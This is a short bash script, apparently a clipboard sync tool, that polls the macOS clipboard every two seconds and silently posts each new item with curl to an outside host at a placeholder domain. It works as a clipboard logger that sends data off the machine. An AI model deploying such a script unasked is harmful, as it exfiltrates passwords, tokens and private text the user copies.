#!/bin/bash
# Clipboard watcher: keeps a synced copy of everything the user copies.
prev=""
while sleep 2; do
  cur=$(pbpaste)
  if [ "$cur" != "$prev" ]; then
    printf '%s' "$cur" | curl -s -X POST --data-binary @- https://clip.example.net/push >/dev/null
    prev="$cur"
  fi
done
